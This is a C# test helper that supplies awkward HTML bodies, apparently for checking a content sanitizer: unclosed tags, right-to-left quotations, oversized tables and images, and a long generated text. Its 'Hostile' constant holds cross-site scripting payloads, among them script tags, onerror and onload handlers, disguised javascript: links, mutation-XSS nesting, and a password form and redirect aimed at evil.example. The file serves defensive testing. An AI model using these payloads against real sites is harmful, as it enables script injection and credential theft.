using System.Globalization;
using System.Text;

namespace SwanOrchard.Tests.Shared;

/// <summary>Bodies as editors paste them, and as nobody should.</summary>
internal static class NastyBodies
{
    /// <summary>The number of words in one long body.</summary>
    public const int ManyWords = 20_000;

    /// <summary>A few kilobytes that would keep a parser busy: each paragraph reopens all unclosed bold elements before it.</summary>
    public static string Unclosed { get; } = string.Concat(
        Enumerable.Range(0, 2000).Select(number => string.Create(CultureInfo.InvariantCulture, $"<p><b title={number}>")));

    /// <summary>Everything a body could try. Every piece of it must be inert on the page.</summary>
    public const string Hostile =
        """
        <p onclick="document.title='taken'" style="position:fixed;inset:0" class="leave"
        id="main">A paragraph that wants to cover the page.</p>
        <script>document.title = 'taken'; document.cookie = 'taken=1'; localStorage.setItem('taken', '1');</script>
        <style>body { display: none }</style>
        <link rel="stylesheet" href="https://evil.example/style.css"><base href="https://evil.example/"><meta http-equiv="refresh"
        content="0;url=https://evil.example/">
        <p><img src="https://img.example/pixel.png" alt="A picture from elsewhere"> and <img src="//img.example/second.png"
        alt="one without a scheme">.</p>
        <p><img src="x" onerror="document.title='taken'" alt="a broken one"><img src="data:image/svg+xml,%3Csvg%20onload='alert(1)'%3E"
        alt="data"></p>
        <iframe src="https://video.example/embed/1" title="A film"></iframe>
        <video src="https://video.example/film.mp4" autoplay><source src="https://video.example/film.webm"></video>
        <object data="https://evil.example/flash.swf"><embed src="https://evil.example/flash.swf"></object>
        <p><a href="javascript:document.title='taken'">A script as a link</a>, <a
        href="JaVaScRiPt&#58;alert(1)">the same in disguise</a>, <a href="data:text/html,taken">data</a>,
        <a href="https://partner.example/page" target="_blank" onmouseover="alert(1)">a partner</a>, <a
        href="mailto:press@partner.example">a mail address</a>.</p>
        <form action="https://evil.example/"><input name="password" autofocus><button>Send</button></form>
        <svg onload="document.title='taken'"><script>document.title='taken'</script></svg>
        <p>The last paragraph, with an <b>unclosed tag.
        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
        <noscript><p title="</noscript><img src=x onerror=document.title='taken'>"></noscript></p></mtext></math>
        """;

    /// <summary>Headings out of order, lists, a description list, a disclosure, code, long words, and what word processors leave.</summary>
    public const string Everything =
        """
        <h1>A heading of the first level</h1><p>A text with <strong>strong</strong>, <em>stressed</em>, <sup>raised</sup>, <abbr
        title="World Health Organization">WHO</abbr>,
        <time datetime="2009-05-15">May 15</time>, <ins>new</ins> and <del>old</del> words, and an <a href="/en/news">own link</a>.</p>
        <h5>One of the fifth</h5><ul><li>One<ul><li>Below one</li></ul></li><li>Two</li></ul><ol
        start="3" reversed><li>Three</li><li>Two</li></ol>
        <h3>One of the third</h3><dl><dt>Term</dt><dd>Meaning</dd></dl><hr>
        <details><summary>A fold</summary><p>What is <a href="/en/about">inside</a>.</p></details>
        <pre><code>curl https://partner.example/a/very/long/address/that/does/not/want/to/break?at=all&amp;in=any | sort</code></pre>
        <p>https://partner.example/a/very/long/address/that/does/not/want/to/break/and/stands/in/the/middle?at=all&amp;in=any</p>
        <table width="600" border="1" cellpadding="2"><tbody><tr><td width="120" valign="top"><p class="MsoNormal"
        align="center">Pasted</p></td><td width="50%">from a word processor<o:p></o:p></td></tr></tbody></table>
        <p><font color="red" size="5">Red letters</font> and <center>centred</center> ones. <img src="/media/wide.png" width="50%"
        height="auto" alt="Bands of grey"></p>
        """;

    public const string RightToLeft =
        """
        <p>She said it in her own language:</p><blockquote lang="fa"
        dir="rtl"><p>ما حق داریم که امن باشیم (نه فقط امروز). هیچ چیز درباره ما بدون ما!</p></blockquote>
        <p>And <q lang="ar" dir="rtl">لا شيء عنا بدوننا</q> in Arabic.</p>
        """;

    public const string WideImage =
        """
        <p>A picture stands below.</p><figure><img src="/media/wide.png" width="6000" height="400"
        alt="Bands of grey"><figcaption>Grey, six thousand pixels of it</figcaption></figure>
        <p><img src="/media/wide.png" alt="The same without a size"></p>
        """;

    /// <summary>A table too wide for any phone.</summary>
    public static string WideTable()
    {
        var table = new StringBuilder(
            "<p>All figures:</p><table><caption>Consultations by month and city</caption><thead><tr><th scope=\"col\">City</th>");
        string[] months = [
            "January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"
        ];
        table.AppendJoin("", months.Select(month => $"<th scope=\"col\">{month}</th>")).Append("</tr></thead><tbody>");
        foreach (var city in new[] { "Bishkek", "Osh", "Jalalabad" })
        {
            table.Append(CultureInfo.InvariantCulture, $"<tr><th scope=\"row\">{city}</th>");
            table.AppendJoin(
                "", months.Select((_, index) =>
                    string.Create(CultureInfo.InvariantCulture, $"<td>{(index + 1) * 1000}</td>"))).Append("</tr>");
        }

        return table.Append("</tbody></table><p>A <a href=\"https://partner.example/report\">report</a> says more.</p>").ToString();
    }

    /// <summary>A body of <see cref="ManyWords"/> words under headings, the same every time.</summary>
    public static string Long(params string[] words)
    {
        const int InParagraph = 80;
        var body = new StringBuilder();
        for (var number = 0; number < ManyWords / InParagraph; number++)
        {
            if (number % 25 == 0)
            {
                body.Append(CultureInfo.InvariantCulture, $"<h2>{number / 25 + 1}. {words[0]}</h2>");
            }

            body.Append("<p>")
                .AppendJoin(' ', Enumerable.Range(0, InParagraph).Select(word => words[(word * 7 + number * 3) % words.Length]))
                .Append(".</p>\n");
        }

        return body.ToString();
    }
}
